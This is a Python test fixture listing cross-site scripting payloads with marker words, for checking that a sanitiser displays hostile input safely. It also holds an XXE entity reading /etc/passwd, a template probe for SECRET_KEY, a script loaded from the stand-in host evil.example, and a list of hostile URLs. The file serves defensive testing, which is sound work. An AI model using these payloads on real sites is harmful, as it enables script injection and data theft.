# ruff: noqa: E501 - the payloads are literal strings, one per line, to be read whole.
"""A catalogue of hostile input: what an attacker (or a careless paste) may type into any
field. Each payload carries a marker word that must stay visible wherever the payload is
shown, so a test can tell "shown safely" from "silently dropped".

Markers are unusual animal names: no template, page chrome or other payload contains
one. They sit outside the elements whose content the sanitiser drops whole (script,
style, and anything inside svg or math). Payloads are at most 100 characters, so each
also fits a tag name.
"""

from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    marker: str
    text: str

    def __str__(self):
        return self.name


P = Payload

PAYLOADS = [
    # Script elements and the elements they must not escape from
    P("script-tag", "Aardvark", "<script>alert(1)</script>Aardvark"),
    P("script-upper-src", "Bandicoot", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>Bandicoot"),
    P("script-mixed-case", "Capybara", "<ScRiPt>alert(1)</sCrIpT>Capybara"),
    P("script-nested-split", "Dormouse", "<scr<script>ipt>alert(1)</scr</script>ipt>Dormouse"),
    P("script-breakout", "Echidna", "</script><script>alert(1)</script>Echidna"),
    P("title-breakout", "Flamingo", "</title><script>alert(1)</script>Flamingo"),
    P("textarea-breakout", "Gharial", "</textarea><script>alert(1)</script>Gharial"),
    P("style-breakout", "Hedgehog", "</style><script>alert(1)</script>Hedgehog"),
    P("comment-breakout", "Ibex", "Ibex <!--><script>alert(1)</script>-->"),
    # Event-handler attributes
    P("img-onerror", "Jacana", "<img src=x onerror=alert(1)>Jacana"),
    P("img-onerror-mixed-case", "Kakapo", '<IMG SRC="x:x" OnError="alert(1)">Kakapo'),
    P("body-onload", "Lorikeet", "<body onload=alert(1)>Lorikeet"),
    P("details-ontoggle", "Mongoose", "<details open ontoggle=alert(1)>Mongoose</details>"),
    P("input-autofocus", "Numbat", "<input autofocus onfocus=alert(1)>Numbat"),
    P("allowed-tag-handler", "Okapi", '<a href="https://example.org" onclick="alert(1)">Okapi</a>'),
    P("abbr-title-breakout", "Pangolin", "<abbr title='\"><script>alert(1)</script>'>Pangolin</abbr>"),
    # javascript:, vbscript: and data: links in every spelling
    P("href-javascript", "Quokka", '<a href="javascript:alert(1)">Quokka</a>'),
    P("href-javascript-upper", "Ringtail", '<a href="JAVASCRIPT:alert(1)">Ringtail</a>'),
    P("href-javascript-mixed-space", "Serval", "<a href=' JaVaScRiPt:alert(1)'>Serval</a>"),
    P("href-vbscript", "Tamarin", '<a href="vbscript:msgbox(1)">Tamarin</a>'),
    P("href-data-html", "Uakari", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">Uakari</a>'),
    P("href-entity-decimal", "Vicuna", '<a href="&#106;avascript&#58;alert(1)">Vicuna</a>'),
    P("href-entity-hex", "Wallaby", '<a href="&#x6A;avascript&#x3A;alert(1)">Wallaby</a>'),
    P("href-entity-named", "Xenops", '<a href="javascript&colon;alert(1)">Xenops</a>'),
    P("href-entity-padded", "Yapok", '<a href="&#0000106avascript&#58alert(1)">Yapok</a>'),
    P("href-tab-split", "Zorilla", '<a href="jav\tascript:alert(1)">Zorilla</a>'),
    P("href-newline-split", "Axolotl", '<a href="java\nscript:alert(1)">Axolotl</a>'),
    P("href-entity-tab", "Binturong", '<a href="jav&#x09;ascript:alert(1)">Binturong</a>'),
    P("href-entity-newline", "Caracal", '<a href="java&NewLine;script:alert(1)">Caracal</a>'),
    P("href-control-char", "Dugong", '<a href="\x01javascript:alert(1)">Dugong</a>'),
    P("href-percent-encoded", "Eland", '<a href="%6A%61vascript%3Aalert(1)">Eland</a>'),
    P("href-vbscript-entity", "Fulmar", '<a href="vb&#115;cript&#x3a;msgbox(1)">Fulmar</a>'),
    # SVG, MathML, frames, objects and other active elements
    P("svg-onload", "Fennec", "Fennec <svg/onload=alert(1)>"),
    P("svg-script", "Galago", "Galago <svg><script>alert(1)</script></svg>"),
    P("svg-xlink", "Hoatzin", 'Hoatzin <svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    P("math-href", "Indri", 'Indri <math href="javascript:alert(1)"><mtext>x</mtext></math>'),
    P("math-mglyph-mxss", "Jerboa", "Jerboa <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    P("iframe-srcdoc", "Kinkajou", 'Kinkajou <iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    P("iframe-javascript", "Loris", '<iframe src="javascript:alert(1)"></iframe>Loris'),
    P("object-data", "Margay", '<object data="javascript:alert(1)"></object>Margay'),
    P("embed-data", "Nilgai", '<embed src="data:text/html,<script>alert(1)</script>">Nilgai'),
    P("form-formaction", "Oncilla", '<form><button formaction="javascript:alert(1)">Oncilla</button></form>'),
    P("meta-refresh", "Potoroo", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Potoroo'),
    P("base-href", "Quoll", '<base href="javascript:alert(1)//">Quoll'),
    P("style-attribute", "Rasbora", '<p style="background:url(javascript:alert(1))">Rasbora</p>'),
    P("style-element", "Saiga", "Saiga <style>*{background:url(javascript:alert(1))}</style>"),
    P("noscript-mxss", "Takin", 'Takin <noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    # Attribute and element break-outs
    P("attr-breakout-double", "Urutu", '" onmouseover="alert(1)" x="Urutu'),
    P("attr-breakout-single", "Vaquita", "' onmouseover='alert(1)' x='Vaquita"),
    P("tag-breakout-single", "Wolverine", "'><script>alert(1)</script>Wolverine"),
    P("tag-breakout-double", "Xerus", '"><img src=x onerror=alert(1)>Xerus'),
    # XML and JSON break-outs (feeds, sitemaps, JSON-LD)
    P("cdata-breakout", "Yellowhammer", "Yellowhammer ]]><script>alert(1)</script><![CDATA["),
    P("xml-entity", "Zokor", 'Zokor <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
    P("xml-control-chars", "Agouti", "Agouti \x0bpasted\x1b from a word processor"),
    P("json-breakout", "Bontebok", '","@type":"x"}</script><script>alert(1)</script>Bontebok'),
    P("json-line-separators", "Chevrotain", "Chevrotain \u2028x\u2029 <!--<script>"),
    # Template syntax of Django, JavaScript and other engines
    P("django-variable", "Dikdik", "{{ settings.SECRET_KEY }}Dikdik"),
    P("django-tag", "Eider", "{% debug %}Eider{% load static %}"),
    P("js-template-literal", "Fossa", "${alert(1)}Fossa"),
    P("other-templates", "Gerenuk", "{{7*7}} #{7*7} <%= 7*7 %> Gerenuk"),
    # Markdown links, images, autolinks, references and raw HTML
    P("md-link-javascript", "Hyrax", "[Hyrax](javascript:alert(1))"),
    P("md-link-entity", "Jabiru", "[Jabiru](javascript&#58;alert(1))"),
    P("md-link-angle-case", "Kiang", "[Kiang](<JaVaScRiPt:alert(1)>)"),
    P("md-link-vbscript", "Langur", "[Langur](vbscript:msgbox(1))"),
    P("md-link-data", "Markhor", "[Markhor](data:text/html;base64,PHNjcmlwdD4)"),
    P("md-image", "Nyala", "Nyala ![x](javascript:alert(1))"),
    P("md-image-alt-breakout", "Oribi", 'Oribi ![x" onerror="alert(1)](x)'),
    P("md-link-title-breakout", "Pika", '[Pika](https://example.org "x\\" onmouseover=\\"alert(1)")'),
    P("md-autolink", "Quagga", "<javascript:alert(1)> Quagga"),
    P("md-reference-link", "Sifaka", "[Sifaka][x]\n\n[x]: javascript:alert(1)"),
    P("md-raw-html-block", "Tuatara", '<div onclick="alert(1)">\n\nTuatara\n\n</div>'),
    P("md-heading-html", "Vervet", "## <img src=x onerror=alert(1)>Vervet"),
    P("md-url-breakout", "Wapiti", '[Wapiti](https://example.org/"onmouseover="alert(1))'),
]  # fmt: skip

# Addresses the source URL field must refuse: anything but http(s), however spelled.
HOSTILE_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml;base64,PHN2Zz4=",
    "file:///etc/passwd",
    "ftp://example.org/notes",
    "http:javascript:alert(1)",
]

# Accepted by the URL field, yet hostile once placed in an href.
TRICKY_VALID_URL = 'https://example.org/notes?a="onmouseover="alert(1)"&b=\'onfocus=\'alert(1)'
